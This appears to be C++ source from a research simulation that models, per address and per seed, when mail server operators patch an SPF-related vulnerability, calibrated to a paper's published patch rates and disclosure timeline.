  // A fix bundled with the earlier CVE's update counts as zero days —
  // it shipped *before* this CVE's disclosure.
  const util::SimTime effective = *patched;
  long long days = (effective - disclosure) / util::kDay;
  std::string suffix;
  if (for_33912 && record.fix_bundled_with_earlier) {
    days = 0;
    suffix = "*";
  }
  if (days < 0) days = 0;
  return std::to_string(days) + suffix + " (" + util::format_date(effective) +
         ")";
}

}  // namespace spfail::longitudinal
