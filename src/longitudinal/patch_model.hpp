// The per-address patch-decision model.
//
// For every initially vulnerable address the model decides, deterministically
// per seed, (a) whether its operator ever patches within the study window and
// (b) when. Calibration targets (DESIGN.md section 4):
//   * ~24% of vulnerable addresses patch by 2022-02-14 (paper conclusion);
//   * per-TLD final patch rates follow Table 5 (za 79% ... tw 0%), converted
//     from domain-level to address-level with the observed ~1.4 vulnerable
//     addresses per vulnerable domain (p_addr = p_domain^(1/1.4));
//   * window-1 (pre-disclosure) share follows §7.6/Fig 6 — .za almost
//     entirely pre-disclosure (98%), 2-Week MX domains front-loaded, the
//     Alexa list mostly post-disclosure (the Debian package uptake);
//   * named top providers never patch (§7.5);
//   * operators who opened the private notification patch at an elevated
//     rate (§7.7: 177 of 512 openers eventually patched ≈ 35%), but almost
//     never *between* the disclosures (9 of 512).
#pragma once

#include <optional>
#include <string>

#include "util/clock.hpp"
#include "util/rng.hpp"

namespace spfail::longitudinal {

struct PatchContext {
  std::string tld;
  bool in_mx_set = false;        // 2-Week MX cohort
  bool provider_pool = false;    // shared hosting farm
  bool named_top_provider = false;
  // How many domains the address serves: the paper's address-vs-domain patch
  // rates (24% vs 13%) imply heavily shared infrastructure patched far less,
  // so the model damps patch probability with hosted-domain count.
  std::size_t domains_hosted = 1;
  bool notification_opened = false;
  util::SimTime opened_at = 0;
};

struct PatchDecision {
  bool will_patch = false;
  util::SimTime patch_time = 0;
};

struct PatchModelConfig {
  std::uint64_t seed = 4242;
  double default_address_patch_rate = 0.24;  // conclusion: 24% of MTAs
  double opened_floor = 0.35;                // §7.7: openers' eventual rate
  double provider_pool_multiplier = 0.8;     // big shared infra lags
  double hosted_damping_exponent = 0.60;     // p *= hosted^-exponent
  // Window-1 share defaults when the TLD table doesn't pin one.
  double alexa_window1_share = 0.28;
  double mx_window1_share = 0.70;
  double mx_patch_floor = 0.08;  // the 2-Week MX cohort's minimum rate
  double between_share = 0.02;           // §7.7: patching between disclosures
  double opened_between_share = 0.05;    // openers slightly more responsive
  util::SimTime post_disclosure_mean = 7 * util::kDay;
};

class PatchModel {
 public:
  explicit PatchModel(PatchModelConfig config = {})
      : config_(config), rng_(config.seed) {}

  PatchDecision decide(const PatchContext& context);

  const PatchModelConfig& config() const noexcept { return config_; }

 private:
  PatchModelConfig config_;
  util::Rng rng_;
};

}  // namespace spfail::longitudinal
