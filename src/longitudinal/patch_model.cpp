#include "longitudinal/patch_model.hpp"

#include <algorithm>
#include <cmath>

#include "population/paper_constants.hpp"
#include "population/tld.hpp"

namespace spfail::longitudinal {

namespace {

namespace paper = population::paper;

// Domain-level Table 5 rates convert to a *dedicated-address* rate; together
// with the hosted-count damping below, the mix solves to the paper's joint
// 24%-of-addresses / 13%-of-domains patch rates (derivation in DESIGN.md).
double address_rate_from_domain_rate(double domain_rate) {
  if (domain_rate <= 0.0) return 0.0;
  return std::min(0.97, std::pow(domain_rate, 1.0 / 1.8));
}

}  // namespace

PatchDecision PatchModel::decide(const PatchContext& context) {
  PatchDecision decision;
  if (context.named_top_provider) return decision;  // §7.5: none patched

  const auto tld_profile = population::find_tld(context.tld);

  double probability = config_.default_address_patch_rate;
  double domain_rate_target = 0.15;  // the global ~15% domain patch rate
  double window1_share = context.in_mx_set ? config_.mx_window1_share
                                           : config_.alexa_window1_share;
  if (tld_profile.has_value()) {
    probability = address_rate_from_domain_rate(tld_profile->patch_rate);
    domain_rate_target = tld_profile->patch_rate;
    window1_share = tld_profile->window1_share;
  }
  // Fig 6: the 2-Week MX cohort front-loaded its patching (operationally
  // attentive university-adjacent domains), whatever the TLD.
  if (context.in_mx_set) {
    window1_share = std::max(window1_share, config_.mx_window1_share);
  }
  if (context.provider_pool) probability *= config_.provider_pool_multiplier;
  if (context.domains_hosted > 1) {
    // Shared-hosting inattention damps patching — except where the TLD's
    // operator community patched aggressively (.za's hosting providers
    // patched country-wide in October), so the damping fades as the TLD's
    // domain-level patch target rises.
    const double exponent =
        config_.hosted_damping_exponent * (1.0 - domain_rate_target);
    probability *= std::pow(static_cast<double>(context.domains_hosted),
                            -exponent);
  }
  // The 2-Week MX capture is the university's live correspondents —
  // operationally attentive organisations whose patch rate floors above the
  // shared-hosting damping (Fig 6's 10% window-1 decline needs this).
  if (context.in_mx_set) {
    probability = std::max(probability, config_.mx_patch_floor);
  }
  if (context.notification_opened) {
    probability = std::max(probability, config_.opened_floor);
  }

  if (!rng_.bernoulli(probability)) return decision;
  decision.will_patch = true;

  const double between_share = context.notification_opened
                                   ? config_.opened_between_share
                                   : config_.between_share;
  const double draw = rng_.uniform01();
  if (draw < window1_share) {
    // Pre-disclosure patching: proactive package monitoring; spread across
    // the first measurement window.
    decision.patch_time = paper::kInitialMeasurement + util::kDay +
                          static_cast<util::SimTime>(
                              rng_.uniform01() *
                              static_cast<double>(paper::kMeasurementsPaused -
                                                  5 * util::kDay -
                                                  paper::kInitialMeasurement));
  } else if (draw < window1_share + between_share) {
    // Between private notification and public disclosure — rare (§7.7).
    const util::SimTime lo = paper::kPrivateNotification + util::kDay;
    const util::SimTime hi = paper::kPublicDisclosure - util::kDay;
    decision.patch_time =
        lo + static_cast<util::SimTime>(rng_.uniform01() *
                                        static_cast<double>(hi - lo));
  } else {
    // Post-disclosure: CVE publication + distribution (Debian) uptake.
    const util::SimTime raw =
        paper::kPublicDisclosure + util::kDay +
        static_cast<util::SimTime>(rng_.exponential(
            1.0 / static_cast<double>(config_.post_disclosure_mean)));
    decision.patch_time =
        std::min(raw, paper::kFinalMeasurement - util::kDay);
  }
  // An operator cannot react to a notification before opening it.
  if (context.notification_opened &&
      decision.patch_time > paper::kPrivateNotification &&
      decision.patch_time < context.opened_at) {
    decision.patch_time = context.opened_at + util::kDay;
  }
  return decision;
}

}  // namespace spfail::longitudinal
